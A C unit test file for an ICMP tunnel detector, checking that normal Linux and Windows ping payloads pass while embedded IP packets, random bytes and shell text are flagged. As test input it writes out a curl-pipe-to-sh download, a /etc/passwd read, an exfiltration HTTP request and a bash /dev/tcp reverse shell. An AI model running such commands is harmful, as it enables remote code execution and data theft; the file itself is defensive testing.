/* tests/unit/test_threat_icmp.c — detect/threat/icmp_tunnel.h on echo
 * payloads: what ping programs send (Linux with a 16- or 8-byte timestamp
 * and counting bytes, at any size and any second of the clock; Windows'
 * alphabet; zeros; payloads too short to judge) gives NULL; an IPv4 or IPv6
 * packet inside, random bytes and shell text give a reason; captures cut
 * shorter than the payload are judged on what was captured. Payloads are
 * exact-size heap copies so that ASan sees any read past cap. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detect/threat/icmp_tunnel.h"

/* icmp_tunnel_check on the first cap bytes of b, copied to a buffer of
 * exactly cap bytes; len is what the packet declared. */
static const char *check(const uint8_t *b, uint32_t cap, uint32_t len) {
  uint8_t *copy = malloc(cap ? cap : 1);
  assert_non_null(copy);
  memcpy(copy, b, cap);
  const char *why = icmp_tunnel_check(copy, cap, len);
  free(copy);
  return why;
}

static void le(uint8_t *p, uint64_t v, int n) {
  for (int i = 0; i < n; i++)
    p[i] = (uint8_t)(v >> (8 * i));
}

/* Linux iputils ping: a struct timeval (16 bytes on 64-bit, 8 on 32-bit)
 * then byte i holds i. */
static void linux_ping(uint8_t *b, uint32_t len, uint64_t sec, uint64_t usec, int stamp) {
  for (uint32_t i = 0; i < len; i++)
    b[i] = (uint8_t)i;
  if (stamp == 16) {
    le(b, sec, 8);
    le(b + 8, usec, 8);
  } else {
    le(b, sec, 4);
    le(b + 4, usec, 4);
  }
}

/* Windows ping: 'a' + i % 23. */
static void windows_ping(uint8_t *b, uint32_t len) {
  for (uint32_t i = 0; i < len; i++)
    b[i] = (uint8_t)('a' + i % 23);
}

static void test_linux_ping(void **state) {
  (void)state;
  uint8_t b[2048];
  /* The default 56 bytes, and bigger ones whose counting wraps past 0xff. */
  uint32_t sizes[] = {56, 64, 100, 1000, 1472, 2000};
  for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
    linux_ping(b, sizes[i], 1700000123, 456789, 16);
    assert_null(check(b, sizes[i], sizes[i]));
    linux_ping(b, sizes[i], 1700000123, 456789, 8);
    assert_null(check(b, sizes[i], sizes[i]));
  }
  /* The 16-byte stamp's counting starts at 0x10, the 8-byte one's at 0x08. */
  linux_ping(b, 56, 1700000123, 456789, 16);
  assert_int_equal(b[16], 0x10);
  assert_int_equal(b[55], 0x37);
  linux_ping(b, 56, 1700000123, 456789, 8);
  assert_int_equal(b[8], 0x08);
}

/* A ping is a ping at every second of the clock: a timestamp whose bytes
 * happen to start like an IP header does not make it a tunnel. */
static void test_linux_ping_any_time(void **state) {
  (void)state;
  uint8_t b[1500];
  uint32_t sizes[] = {56, 1472};
  for (size_t k = 0; k < 2; k++)
    for (uint64_t sec = 1700000000; sec < 1700000000 + 256 * 4; sec++)
      for (uint64_t usec = 0; usec < 1000000; usec += 99991) {
        for (int stamp = 8; stamp <= 16; stamp += 8) {
          linux_ping(b, sizes[k], sec, usec, stamp);
          const char *why = check(b, sizes[k], sizes[k]);
          if (why)
            fail_msg("ping of %u bytes at %llu.%06llu (%d-byte stamp): %s", sizes[k],
                     (unsigned long long)sec, (unsigned long long)usec, stamp, why);
        }
      }
  /* The two look-alikes on their own: 0x60 at the start (IPv6, with a
   * payload length of 0 from the high bytes of tv_sec), and 0x45 with a
   * total length the payload holds and protocol byte 6. */
  linux_ping(b, 56, 0x6553f160, 1, 16);
  assert_int_equal(b[0] >> 4, 6);
  assert_null(check(b, 56, 56));
  linux_ping(b, 1472, 0x6505f145, 0x0600, 16);
  assert_int_equal(b[0], 0x45);
  assert_int_equal(b[9], 6);
  assert_null(check(b, 1472, 1472));
}

static void test_windows_ping(void **state) {
  (void)state;
  uint8_t b[1500];
  windows_ping(b, 32);
  assert_memory_equal(b, "abcdefghijklmnopqrstuvwabcdefghi", 32);
  assert_null(check(b, 32, 32));
  uint32_t sizes[] = {33, 64, 100, 1000, 1472};
  for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
    windows_ping(b, sizes[i]);
    assert_null(check(b, sizes[i], sizes[i]));
  }
}

static void test_repeated_bytes(void **state) {
  (void)state;
  uint8_t b[1500];
  memset(b, 0, sizeof b);
  assert_null(check(b, 56, 56));
  assert_null(check(b, 1472, 1472));
  /* ping -p ff: one byte repeated, after a timestamp. */
  memset(b, 0xff, sizeof b);
  le(b, 1700000123, 8);
  assert_null(check(b, 100, 100));
}

static void test_short_payloads(void **state) {
  (void)state;
  /* 32 bytes or fewer: too little to judge, whatever they hold. */
  uint8_t b[64];
  for (uint32_t i = 0; i < sizeof b; i++)
    b[i] = (uint8_t)(i * 97 + 13);
  assert_null(check(b, 0, 0));
  assert_null(check(b, 1, 1));
  assert_null(check((const uint8_t *)"whoami\n", 7, 7));
  assert_null(check(b, 32, 32));
  /* One more byte of noise: judged. */
  assert_non_null(check(b, 33, 33));
}

/* An IPv4 header of total bytes (payload after it, proto p). */
static void ipv4(uint8_t *b, uint32_t total, uint8_t proto) {
  memset(b, 0, total);
  b[0] = 0x45;
  b[2] = (uint8_t)(total >> 8);
  b[3] = (uint8_t)total;
  b[8] = 64;
  b[9] = proto;
  b[12] = 10, b[15] = 1, b[16] = 10, b[19] = 2;
  for (uint32_t i = 20; i < total; i++)
    b[i] = (uint8_t)(i * 31 + 7);
}

#define IP_REASON "the echo payload carries an IP packet"
#define assert_ip(call)                                                            \
  do {                                                                             \
    const char *why_ = (call);                                                     \
    assert_non_null(why_);                                                         \
    assert_string_equal(why_, IP_REASON);                                          \
  } while (0)

static void test_embedded_ip(void **state) {
  (void)state;
  uint8_t b[1500];
  /* IPv4 carrying TCP, UDP, ICMP: short or long. */
  uint8_t protos[] = {6, 17, 1};
  for (size_t i = 0; i < 3; i++) {
    ipv4(b, 28, protos[i]);
    assert_ip(check(b, 28, 28));
    ipv4(b, 1400, protos[i]);
    assert_ip(check(b, 1400, 1400));
  }
  /* A packet that does not fit the payload, or of another protocol, is
   * not one: here the rest is counting bytes, so it is a ping. */
  linux_ping(b, 100, 0, 0, 16);
  b[0] = 0x45, b[2] = 0x10, b[3] = 0x00, b[9] = 6; /* total 4096 > 100 */
  assert_null(check(b, 100, 100));
  /* IPv6: 40 bytes of header and its payload length. */
  memset(b, 0, 200);
  b[0] = 0x60;
  b[5] = 60; /* payload length */
  b[6] = 17;
  b[7] = 64;
  b[8] = 0xfd, b[23] = 1, b[24] = 0xfd, b[39] = 2;
  for (uint32_t i = 40; i < 100; i++)
    b[i] = (uint8_t)(i * 31 + 7);
  assert_ip(check(b, 100, 100));
  assert_ip(check(b, 100, 140)); /* padding after it */
  assert_ip(check(b, 40, 100));  /* cut after the header */
}

static void test_random_and_text(void **state) {
  (void)state;
  uint8_t b[1500];
  uint64_t x = 0x9e3779b97f4a7c15ull;
  for (int round = 0; round < 50; round++) {
    uint32_t n = 33 + (uint32_t)round * 29;
    for (uint32_t i = 0; i < n; i++) {
      x ^= x << 13, x ^= x >> 7, x ^= x << 17;
      b[i] = (uint8_t)x;
    }
    assert_non_null(check(b, n, n));
  }
  const char *text[] = {
      "uid=0(root) gid=0(root) groups=0(root)\n",
      "cat /etc/passwd; curl http://203.0.113.9/x.sh | sh\n",
      "GET /exfil?d=c2VjcmV0IGRhdGEgaGVyZQ== HTTP/1.1\r\nHost: example.com\r\n\r\n",
  };
  for (size_t i = 0; i < 3; i++)
    assert_non_null(check((const uint8_t *)text[i], (uint32_t)strlen(text[i]),
                          (uint32_t)strlen(text[i])));
  /* A ping pattern with a message spliced in is not a ping. */
  linux_ping(b, 100, 1700000123, 1, 16);
  memcpy(b + 40, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 42);
  assert_non_null(check(b, 100, 100));
}

static void test_cut_captures(void **state) {
  (void)state;
  uint8_t b[1500];
  /* A big ping cut by the snap length: what was captured is a ping. */
  linux_ping(b, 1472, 1700000123, 1, 16);
  assert_null(check(b, 100, 1472));
  assert_null(check(b, 20, 1472));
  /* Noise cut to 32 bytes or fewer: too little to judge; to more: judged
   * on the captured part. */
  for (uint32_t i = 0; i < 1472; i++)
    b[i] = (uint8_t)(i * i * 131 + 17);
  assert_null(check(b, 24, 1472));
  assert_non_null(check(b, 64, 1472));
  /* An IPv4 packet cut after its header: its total fits the declared
   * length, not the captured one. */
  ipv4(b, 1400, 6);
  assert_ip(check(b, 20, 1400));
  assert_null(check(b, 19, 1400)); /* not even a header */
  /* The declared length bounds the packet: 1400 > 1000. */
  assert_non_null(check(b, 1000, 1000)); /* noise after the header */
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_linux_ping),
      cmocka_unit_test(test_linux_ping_any_time),
      cmocka_unit_test(test_windows_ping),
      cmocka_unit_test(test_repeated_bytes),
      cmocka_unit_test(test_short_payloads),
      cmocka_unit_test(test_embedded_ip),
      cmocka_unit_test(test_random_and_text),
      cmocka_unit_test(test_cut_captures),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
